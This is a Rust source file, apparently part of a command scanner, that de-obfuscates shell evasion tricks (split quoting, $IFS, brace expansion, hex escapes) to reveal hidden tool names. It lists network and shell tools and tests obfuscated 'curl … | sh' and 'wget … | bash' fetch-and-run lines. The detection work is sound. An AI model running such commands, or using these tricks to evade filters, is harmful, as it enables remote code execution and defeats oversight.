//! Tricks of shell quoting within command lines, undone: `c\url`, `wg''et`, `$IFS`, `{curl,-s,…}`,
//! `\x63\x75\x72\x6c`. They mean nothing to the shell and hide a word from whoever looks for it.

/// Programs whose names are worth hiding. Another word stays as it is written.
const TOOLS: &[&[u8]] = &[
    b"curl",
    b"wget",
    b"fetch",
    b"lwp-request",
    b"tftp",
    b"bash",
    b"sh",
    b"dash",
    b"zsh",
    b"ksh",
    b"ash",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"php",
    b"ruby",
    b"node",
    b"base64",
    b"xxd",
    b"openssl",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"telnet",
    b"chmod",
    b"nohup",
    b"setsid",
    b"eval",
    b"exec",
    b"busybox",
    b"chattr",
    b"crontab",
    b"source",
];

/// Escapes in a row that are no accident.
const LEAST_ESCAPES: usize = 4;

/// The command as the shell understands it; `None` where nothing was hidden.
pub(super) fn plain(command: &[u8]) -> Option<Vec<u8>> {
    let blanks = blanks(command);
    let escapes = escapes(blanks.as_deref().unwrap_or(command)).or(blanks);
    words(escapes.as_deref().unwrap_or(command)).or(escapes)
}

/// `$IFS`, `${IFS}` and `$IFS$9` are blanks.
fn blanks(command: &[u8]) -> Option<Vec<u8>> {
    memchr::memmem::find(command, b"IFS")?;
    let mut out = Vec::with_capacity(command.len());
    let mut rest = command;
    while let Some((&byte, tail)) = rest.split_first() {
        let after = [&b"${IFS}"[..], b"$IFS"].iter().find_map(|word| rest.strip_prefix(*word));
        match after {
            Some(after) => {
                out.push(b' ');
                rest = after.strip_prefix(b"$9").unwrap_or(after);
            }
            None => {
                out.push(byte);
                rest = tail;
            }
        }
    }
    (out != command).then_some(out)
}

/// Runs of `\x63` or `\143` as the characters they are.
fn escapes(command: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(command.len());
    let mut any = false;
    let mut rest = command;
    while let Some((&byte, tail)) = rest.split_first() {
        let mut run = Vec::new();
        let mut after = rest;
        while let Some((byte, next)) = escape(after) {
            run.push(byte);
            after = next;
        }
        if run.len() >= LEAST_ESCAPES
            && run.iter().all(|b| (b' '..=b'~').contains(b) || *b == b'\n')
        {
            any = true;
            out.extend_from_slice(&run);
            rest = after;
        } else {
            out.push(byte);
            rest = tail;
        }
    }
    any.then_some(out)
}

fn escape(text: &[u8]) -> Option<(u8, &[u8])> {
    let (digits, radix, length) = match text {
        [b'\\', b'x', ..] => (text.get(2..4)?, 16, 4),
        [b'\\', ..] => (text.get(1..4)?, 8, 4),
        _ => return None,
    };
    let digits = std::str::from_utf8(digits).ok()?;
    let plain = digits.bytes().all(|b| b.is_ascii_hexdigit());
    let byte = plain.then(|| u8::from_str_radix(digits, radix).ok()).flatten()?;
    Some((byte, text.get(length..)?))
}

/// Words that are a tool's name once their quoting is taken away.
fn words(command: &[u8]) -> Option<Vec<u8>> {
    if !command.iter().any(|b| b"\\'\"$`{".contains(b)) {
        return None;
    }
    let mut out = Vec::with_capacity(command.len());
    let mut any = false;
    let apart = |b: &u8| b.is_ascii_whitespace() || b";|&()<>`".contains(b);
    for piece in command.split_inclusive(apart) {
        let (word, end) = match piece.split_last() {
            Some((last, word)) if apart(last) => {
                (word, piece.get(word.len()..).unwrap_or_default())
            }
            _ => (piece, &b""[..]),
        };
        match braces(word).or_else(|| hidden(word)) {
            Some(plain) => {
                any = true;
                out.extend_from_slice(&plain);
            }
            None => out.extend_from_slice(word),
        }
        out.extend_from_slice(end);
    }
    any.then_some(out)
}

/// `{curl,-s,http://…}` is a line of words.
fn braces(word: &[u8]) -> Option<Vec<u8>> {
    let inner = word.strip_prefix(b"{")?.strip_suffix(b"}")?;
    let parts: Vec<&[u8]> = inner.split(|b| *b == b',').collect();
    (parts.len() > 1 && is_tool(parts.first()?)).then(|| parts.join(&b' '))
}

fn hidden(word: &[u8]) -> Option<Vec<u8>> {
    // A quote that only opens or closes here belongs to the text around: `sh -c "curl …"`.
    let quote = |b: &u8| b"'\"".contains(b);
    let lone = word.iter().filter(|b| quote(b)).count() == 1;
    let ends = |b: Option<&u8>| lone && b.is_some_and(quote);
    let trimmed = match word {
        [_, rest @ ..] if ends(word.first()) => rest,
        [rest @ .., _] if ends(word.last()) => rest,
        word => word,
    };
    let mut plain = Vec::with_capacity(trimmed.len());
    let mut rest = trimmed;
    while let Some((&byte, tail)) = rest.split_first() {
        rest = match (byte, tail) {
            (b'\\' | b'\'' | b'"', tail) => tail,
            (b'$', [b'@' | b'*', tail @ ..]) => tail,
            (b'$', [b'\'' | b'"', ..]) => tail,
            (b'$', [b'{', name @ ..]) => {
                let end = name.iter().position(|b| *b == b'}')?;
                name.get(end + 1..).unwrap_or_default()
            }
            (byte, tail) => {
                plain.push(byte);
                tail
            }
        };
    }
    let name = plain.rsplit(|b| *b == b'/').next().unwrap_or_default();
    (plain != trimmed && is_tool(name)).then_some(plain)
}

fn is_tool(name: &[u8]) -> bool {
    TOOLS.contains(&name)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn text(command: &str) -> Option<String> {
        plain(command.as_bytes()).map(|p| String::from_utf8_lossy(&p).into_owned())
    }

    #[test]
    fn tricks() {
        for (command, expected) in [
            ("c\\url http://x|s\\h", "curl http://x|sh"),
            ("wg''et -qO- http://x | b\"\"ash", "wget -qO- http://x | bash"),
            ("cu$@rl x", "curl x"),
            ("cu${z}rl x", "curl x"),
            ("/usr/bin/c'ur'l x", "/usr/bin/curl x"),
            ("\"curl\" x | 'sh'", "curl x | sh"),
            ("curl$IFS-s${IFS}http://x", "curl -s http://x"),
            ("{curl,-s,http://x}|sh", "curl -s http://x|sh"),
            ("printf '\\x63\\x75\\x72\\x6c'", "printf curl"),
            ("$'\\143\\165\\162\\154'", "curl"),
        ] {
            assert_eq!(text(command).as_deref(), Some(expected), "{command}");
        }
    }

    #[test]
    fn ordinary_quoting_stays() {
        for command in [
            "sh -c \"curl http://x | sh\"",
            "grep -E \"a\\|b\" x | awk '{print $1}'",
            "sed 's/\\n/\\t/g' x",
            "echo \"${HOME}/bin\" '' \"\"",
            "find . -name \\*.sh",
            "printf '\\033[1m'",
        ] {
            assert_eq!(text(command), None, "{command}");
        }
    }

    proptest! {
        #[test]
        fn any_bytes(bytes: Vec<u8>) {
            if let Some(plain) = plain(&bytes) {
                prop_assert!(plain.len() <= bytes.len());
            }
        }

        #[test]
        fn nearly_tricks(text in "([a-z]{0,4}|[\\\\'\"$@{},]|IFS|x41|curl| ){0,20}") {
            plain(text.as_bytes());
        }
    }
}
